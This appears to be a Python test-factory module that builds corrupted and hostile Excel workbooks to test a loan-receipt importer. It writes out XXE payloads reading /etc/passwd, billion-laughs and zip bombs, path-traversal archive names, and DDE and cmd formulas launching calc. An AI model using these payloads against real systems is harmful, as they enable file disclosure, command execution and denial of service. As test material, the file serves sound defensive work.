"""Workbooks as people and enemies make them, built part by part so that every part can be wrong."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Callable, Mapping, Sequence
from xml.sax.saxutils import escape, quoteattr

from tests.factories.hostile_endings import Ending, Odd, asked, faulty, read, refused

MAIN = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
HEAD = ["Receipt No", "Loan A/c No", "Amount", "Collection Date", "Mode"]
DAY = 46328  # 2026-11-02

Cell = str | int | float | bool | None
Rows = Sequence[Sequence[Cell]]


def row(number: int = 1, **changes: Cell) -> list[Cell]:
    names = ("receipt_no", "loan_account_no", "amount", "collected_on", "mode")
    cells: list[Cell] = [f"R{number}", f"LN{number:04d}", 100.5, "2026-11-02", "cash"]
    return list((dict(zip(names, cells, strict=True)) | changes).values())


def table(count: int = 3) -> list[list[Cell]]:
    return [list(HEAD), *(row(number) for number in range(1, count + 1))]


def letters(at: int) -> str:
    return (chr(64 + at // 26) if at >= 26 else "") + chr(65 + at % 26)


def xml_cell(place: str, value: Cell) -> str:
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith("<"):  # a cell's own XML
        return f'<c r="{place}"{value[1:]}' if not value.startswith("<c") else value.replace("<c", f'<c r="{place}"', 1)
    if isinstance(value, bool):
        return f'<c r="{place}" t="b"><v>{int(value)}</v></c>'
    if isinstance(value, str):
        return f'<c r="{place}" t="inlineStr"><is><t xml:space="preserve">{escape(value)}</t></is></c>'
    return f'<c r="{place}"><v>{value!r}</v></c>'


def sheet_xml(rows: Rows, *, dimension: str = "", before: str = "", after: str = "") -> str:
    body = "".join(
        f'<row r="{n}">' + "".join(xml_cell(f"{letters(at)}{n}", value) for at, value in enumerate(cells)) + "</row>"
        for n, cells in enumerate(rows, start=1)
    )
    size = f'<dimension ref="{dimension}"/>' if dimension else ""
    return (
        f'<?xml version="1.0"?>{before}<worksheet xmlns="{MAIN}">{size}<sheetData>{body}</sheetData>{after}</worksheet>'
    )


def book(
    sheets: Mapping[str, str | Rows] | Rows,
    *,
    states: Mapping[str, str] | None = None,
    parts: Mapping[str, str | bytes | None] | None = None,
    dated: bool = False,
) -> bytes:
    """A workbook. `sheets` by name, each as rows or as XML; `states` hidden or veryHidden; `parts` replace or (None) drop parts."""
    named = sheets if isinstance(sheets, Mapping) else {"Sheet1": sheets}
    listed, related, files = "", "", {}
    for n, (name, content) in enumerate(named.items(), start=1):
        state = f' state="{states[name]}"' if states and name in states else ""
        listed += f'<sheet name={quoteattr(name)} sheetId="{n}"{state} r:id="rId{n}"/>'
        related += f'<Relationship Id="rId{n}" Type="{OFFICE}/worksheet" Target="worksheets/sheet{n}.xml"/>'
        files[f"xl/worksheets/sheet{n}.xml"] = content if isinstance(content, str) else sheet_xml(content)
    epoch = '<workbookPr date1904="1"/>' if dated else ""
    files |= {
        "[Content_Types].xml": "<Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'>"
        '<Default Extension="xml" ContentType="application/xml"/></Types>',
        "_rels/.rels": f'<Relationships xmlns="{PACKAGE}"><Relationship Id="rId1" '
        f'Type="{OFFICE}/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": f'<?xml version="1.0"?><workbook xmlns="{MAIN}" xmlns:r="{OFFICE}">{epoch}'
        f"<sheets>{listed}</sheets></workbook>",
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{PACKAGE}">{related}'
        f'<Relationship Id="rIdS" Type="{OFFICE}/styles" Target="styles.xml"/>'
        f'<Relationship Id="rIdT" Type="{OFFICE}/sharedStrings" Target="sharedStrings.xml"/></Relationships>',
        "xl/styles.xml": f'<styleSheet xmlns="{MAIN}"><cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="14"/>'
        "</cellXfs></styleSheet>",
    }
    return archive(files | dict(parts or {}))


def archive(files: Mapping[str, str | bytes | None], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as new:
        for name, content in files.items():
            if content is not None:
                new.writestr(name, content)
    return out.getvalue()


def rezipped(data: bytes, change: Callable[[str, bytes], bytes | None], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as old:
        return archive({name: change(name, old.read(name)) for name in old.namelist()}, method)


def odd(name: str, make: Callable[[], bytes], ending: Ending) -> Odd:
    return Odd(name, make, ending)


def good(name: str, rows: Rows, ending: Ending) -> Odd:
    return Odd(name, lambda: book(rows), ending)


def whole(name: str, ending: Ending, **parts: str | bytes | None) -> Odd:
    """A good workbook with one part changed; `__` stands for / and `_dot_` for a dot in the part's name."""
    files = {key.replace("__", "/").replace("_dot_", "."): content for key, content in parts.items()}
    return Odd(name, lambda: book(table(), parts=files), ending)


# --- archives ----------------------------------------------------------------------------------------------------------


def patched(data: bytes, at: int, change: bytes) -> bytes:
    return data[:at] + change + data[at + len(change) :]


def corrupt_directory() -> bytes:
    data = book(table())
    at = data.rfind(b"PK\x05\x06")
    return patched(data, at + 16, struct.pack("<I", 7))


def lying_sizes() -> bytes:
    """A part that inflates to 300 MB and claims a thousand bytes."""
    data = book(table(), parts={"xl/sharedStrings.xml": b"<sst>" + b" " * 300_000_000 + b"</sst>"})
    real = struct.pack("<I", 300_000_011)
    return data.replace(real, struct.pack("<I", 1_000))


def claimed_encryption() -> bytes:
    data = bytearray(book(table()))
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        data[at + 8] |= 1
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def shared_strings_bomb() -> bytes:
    """One string of a megabyte used in a hundred thousand cells."""
    cells = '<c t="s"><v>0</v></c>' * 5
    body = f"<row>{cells}</row>" * 20_000
    return book(
        {"S": f'<worksheet xmlns="{MAIN}"><sheetData>{body}</sheetData></worksheet>'},
        parts={"xl/sharedStrings.xml": f'<sst xmlns="{MAIN}"><si><t>{"x" * 1_000_000}</t></si></sst>'},
    )


def cells_without_end() -> bytes:
    """Three million cells of the longest string a cell may hold."""
    cells = '<c t="s"><v>0</v></c>' * 300
    body = f"<row>{cells}</row>" * 10_000
    return book(
        {"S": f'<worksheet xmlns="{MAIN}"><sheetData>{body}</sheetData></worksheet>'},
        parts={"xl/sharedStrings.xml": f'<sst xmlns="{MAIN}"><si><t>{"x" * 32_000}</t></si></sst>'},
    )


LAUGHS = '<!DOCTYPE l [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(10)
) + "]>"  # fmt: skip
XXE = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'

ARCHIVES = [
    odd("an archive cut in half", lambda: (data := book(table()))[: len(data) // 2], refused("not_a_workbook")),
    odd("an archive without its last bytes", lambda: book(table())[:-10], refused("not_a_workbook")),
    odd("an archive with a broken directory", corrupt_directory, refused("not_a_workbook")),
    odd("an archive with nothing in it", lambda: archive({}), refused("not_a_workbook")),
    odd("an archive's first bytes alone", lambda: b"PK\x03\x04", refused("not_a_workbook")),
    odd("a workbook after a megabyte of something", lambda: b"x" * 1_000_000 + book(table()), refused("not_a_sheet")),
    odd("a zip bomb by its own figures", lambda: book(table(), parts={"xl/media/a.bin": bytes(200_000_000)}),
        refused("sheet_too_big")),
    odd("a zip bomb that lies about its size", lying_sizes, refused("not_a_workbook")),
    odd("an archive that claims to be encrypted", claimed_encryption, refused("not_a_workbook")),
    odd("names that climb out of the archive", lambda: book(table(), parts={"../../../etc/cron.d/x": "* * * * *"}), read(3)),
    odd("absolute names in the archive", lambda: book(table(), parts={"/etc/passwd": "root"}), read(3)),
    odd("an archive within the archive", lambda: book(table(), parts={"xl/embeddings/a.zip": book(table())}), read(3)),
    odd("parts packed with LZMA", lambda: rezipped(book(table()), lambda _, part: part, zipfile.ZIP_LZMA),
        refused("not_a_workbook")),
    odd("parts stored unpacked", lambda: rezipped(book(table()), lambda _, part: part, zipfile.ZIP_STORED), read(3)),
    odd("an archive of sixty thousand empty parts", lambda: archive({f"xl/{n}": "" for n in range(60_000)}),
        refused("sheet_too_big")),
    odd("macros", lambda: book(table(), parts={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0"}), refused("macro_workbook")),
    odd("macros in capitals", lambda: book(table(), parts={"xl/VBAPROJECT.BIN": b"x"}), refused("macro_workbook")),
    odd("a Word document", lambda: archive({"word/document.xml": "<w/>"}), refused("not_a_workbook")),
    odd("an OpenDocument sheet", lambda: archive({"mimetype": "application/vnd.oasis.opendocument.spreadsheet",
        "content.xml": "<o/>"}), refused("not_a_workbook")),
    odd("a sheet in an archive", lambda: archive({"collections.csv": "Receipt No,Amount\n"}), refused("not_a_workbook")),
    odd("a program's archive", lambda: archive({"META-INF/MANIFEST.MF": "x", "A.class": b"\xca\xfe"}),
        refused("not_a_workbook")),
    odd("a binary workbook with nonsense", lambda: archive({"xl/workbook.bin": b"\x83\x01\x00nonsense"}),
        refused("not_a_workbook")),
    odd("an old Excel file", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(2_000), refused("old_excel")),
    odd("a password", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(1_500)
        + "EncryptedPackage".encode("utf-16-le") + bytes(500), refused("protected_workbook")),
]  # fmt: skip

# --- XML ---------------------------------------------------------------------------------------------------------------

XML = [
    odd("laughing entities in the shared strings", lambda: book(table(), parts={
        "xl/sharedStrings.xml": f'<?xml version="1.0"?>{LAUGHS}<sst xmlns="{MAIN}"><si><t>&k;</t></si></sst>'}),
        refused("not_a_workbook")),
    odd("an external entity in a sheet", lambda: book({"S": sheet_xml([*table(2), row(3, mode="<c t=\"str\"><v>&e;</v></c>")],
        before=XXE)}), refused("not_a_workbook")),
    odd("an external entity in the workbook", lambda: rezipped(book(table()), lambda name, part:
        part.replace(b"<workbook", XXE.encode() + b"<workbook") if name == "xl/workbook.xml" else part), read(3)),
    odd("an external entity for a sheet's name", lambda: rezipped(book(table()), lambda name, part:
        part.replace(b"<workbook", XXE.encode() + b"<workbook").replace(b'"Sheet1"', b'"&e;"')
        if name == "xl/workbook.xml" else part), refused("not_a_workbook")),
    whole("no list of sheets", refused("not_a_workbook"), xl__workbook_dot_xml=f'<workbook xmlns="{MAIN}"/>'),
    whole("an empty workbook part", refused("not_a_workbook"), xl__workbook_dot_xml=""),
    whole("no relations", refused("not_a_workbook"), xl___rels__workbook_dot_xml_dot_rels=None),
    whole("no sheet behind its name", refused("not_a_workbook"), xl__worksheets__sheet1_dot_xml=None),
    whole("a sheet cut off", refused("not_a_workbook"), xl__worksheets__sheet1_dot_xml=sheet_xml(table())[:300]),
    whole("a sheet of nonsense", refused("not_a_workbook"), xl__worksheets__sheet1_dot_xml=bytes(range(256)) * 10),
    whole("an empty sheet", refused("empty_file"), xl__worksheets__sheet1_dot_xml=sheet_xml([])),
    whole("a relation that climbs out", refused("not_a_workbook"),
          xl___rels__workbook_dot_xml_dot_rels=f'<Relationships xmlns="{PACKAGE}"><Relationship Id="rId1" '
          f'Type="{OFFICE}/worksheet" Target="../../../../etc/passwd"/></Relationships>'),
    whole("a relation to another host", refused("not_a_workbook"),
          xl___rels__workbook_dot_xml_dot_rels=f'<Relationships xmlns="{PACKAGE}"><Relationship Id="rId1" TargetMode="External" '
          f'Type="{OFFICE}/worksheet" Target="http://127.0.0.1:9/sheet.xml"/></Relationships>'),
    whole("links to other workbooks", read(3), xl__externalLinks__externalLink1_dot_xml=f'<externalLink xmlns="{MAIN}">'
          '<ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'),
    odd("a shared string that does not exist", lambda: book([*table(2), row(3, mode='<c t="s"><v>99</v></c>')]),
        refused("not_a_workbook")),
    odd("a style that does not exist", lambda: book([*table(2), row(3, amount='<c s="999"><v>5</v></c>')]), read(3)),
    odd("a cell beyond the last column", lambda: book([*table(2), row(3, mode='<c r="ZZZZZ9"><v>5</v></c>')]),
        refused("sheet_too_big")),
]  # fmt: skip

# --- sheets and cells --------------------------------------------------------------------------------------------------

OTHER: Rows = [["Notes"], ["Collected by our Pune office"]]
LAST = '<row r="1048576"><c r="XFD1048576"><v>2</v></c></row></sheetData>'


def formula(text: str, kept: str = "<v>100.5</v>", kind: str = "") -> str:
    return f"<c{kind}><f>{escape(text)}</f>{kept}</c>"


def inline(xml: str) -> str:
    return f'<c t="inlineStr"><is><t xml:space="preserve">{xml}</t></is></c>'


SHEETS = [
    good("a good workbook", table(), read(3)),
    odd("a sheet that claims to be huge", lambda: book({"S": sheet_xml(table(), dimension="A1:XFD1048576")}), read(3)),
    odd("a sheet that claims to be one cell", lambda: book({"S": sheet_xml(table(), dimension="A1")}), read(3)),
    odd("a sheet with a cell in its last corner", lambda: book({"S": sheet_xml(table()).replace("</sheetData>", LAST)}),
        refused("sheet_too_big")),
    odd("four hundred columns", lambda: book([[f"c{n}" for n in range(400)], list(range(400))]), refused("too_many_cells")),
    odd("a string of a megabyte everywhere", shared_strings_bomb, refused("sheet_too_big")),
    odd("a hundred gigabytes of cells", cells_without_end, refused("sheet_too_big")),
    good("a cell longer than a cell can be", [*table(2), row(3, mode="x" * 40_000)], refused("cell_too_long")),
    good("a header alone in a workbook", [HEAD], refused("no_rows")),
    good("a preamble and a total in a workbook", [["Shakti Recoveries"], [], *table(), ["Grand Total", None, 301.5]],
         read(3, "total_row")),
    good("merged headings", [["Receipt", None, "Loan", "Amount", "Mode"], ["No", "Date", "A/c No", None, None],
                             ["R1", "2026-11-02", "LN1", 5, "cash"]], read(1, "header_joined")),
    odd("a hidden sheet before it", lambda: book({"Old": table(9), "Nov": table()}, states={"Old": "hidden"}),
        read(3, "hidden_sheets")),
    odd("a very hidden sheet before it", lambda: book({"Old": table(9), "Nov": table()}, states={"Old": "veryHidden"}),
        read(3, "hidden_sheets")),
    odd("hidden sheets alone", lambda: book({"Old": table()}, states={"Old": "hidden"}), refused("hidden_sheets")),
    odd("a cover before the table", lambda: book({"Cover": OTHER, "Nov": table()}), read(3, "other_sheets")),
    odd("two sheets that would do", lambda: book({"Oct": table(2), "Nov": table()}), asked("several_sheets")),
    odd("an empty sheet before it", lambda: book({"Empty": [], "Nov": table()}), read(3)),
    odd("fifty sheets", lambda: book({f"S{n}": OTHER for n in range(50)}), asked("missing_column")),
    odd("a sheet named by an enemy", lambda: book({"../../a&b<c>\"'": table()}), read(3)),
    good("formulas with results", [*table(2), row(3, amount=formula("SUM(A1:A2)"))], read(3, "formulas_read")),
    good("a formula without a result", [*table(2), row(3, amount=formula("A1+1", ""))], faulty("formula_without_value", 2)),
    good("a formula with an empty result", [*table(2), row(3, amount=formula("A1+1", "<v/>"))],
         faulty("formula_without_value", 2)),
    good("a formula whose result is no text", [*table(2), row(3, mode=formula("A1", "<v></v>", ' t="str"'))],
         faulty("missing_value", 2)),
    good("a command as a formula", [*table(2), row(3, amount=formula("cmd|' /C calc'!A0", "<v>7</v>"))], read(3)),
    good("a web service as a formula", [*table(2), row(3, receipt_no=formula('WEBSERVICE("http://127.0.0.1/"&A1)',
         "<v>R9</v>", ' t="str"'))], read(3)),
    good("an error for an amount", [*table(2), row(3, amount='<c t="e"><v>#REF!</v></c>')], faulty("formula_error", 2)),
    good("a number for a receipt", [*table(2), row(3, receipt_no=12345)], read(3)),
    good("a loan number with too many digits", [*table(2), row(3, loan_account_no=123456789012345678)],
         faulty("number_mangled", 2)),
    good("an amount a float cannot hold", [*table(2), row(3, amount=0.1 + 0.2)], read(3)),
    good("an amount of 1e308 in a workbook", [*table(2), row(3, amount=1e308)], faulty("amount_exponent", 2)),
    good("an amount of NaN in a workbook", [*table(2), row(3, amount="<c><v>NaN</v></c>")], faulty("bad_amount", 2)),
    good("true for an amount", [*table(2), row(3, amount=True)], faulty("bad_amount", 2)),
    good("a day as a number with a format", [*table(2), row(3, collected_on=f'<c s="1"><v>{DAY}</v></c>')], read(3)),
    good("a day as a bare number", [*table(2), row(3, collected_on=DAY)], read(3)),
    good("a day before all days", [*table(2), row(3, collected_on='<c s="1"><v>-5</v></c>')], faulty("bad_date", 2)),
    good("a day beyond all days", [*table(2), row(3, collected_on='<c s="1"><v>1e300</v></c>')], faulty("bad_date", 2)),
    odd("days counted from 1904", lambda: book([*table(2), row(3, collected_on=f'<c s="1"><v>{DAY - 1462}</v></c>')],
        dated=True), read(3)),
    good("a control character in a workbook", [*table(2), row(3, receipt_no="R_x0007_3")], faulty("control_characters", 2)),
    good("a NUL in a workbook", [*table(2), row(3, receipt_no="R_x0000_3")], faulty("control_characters", 2)),
    good("line breaks of every kind in a cell", [*table(2), row(3, receipt_no=inline("R&#13;3")),
         row(4, receipt_no=inline("R&#13;&#10;4&#10;"))], read(4)),
    good("a formula as text", [*table(2), row(3, receipt_no="=1+1")], read(3)),
]  # fmt: skip

BOOKS: list[Odd] = [*ARCHIVES, *XML, *SHEETS]
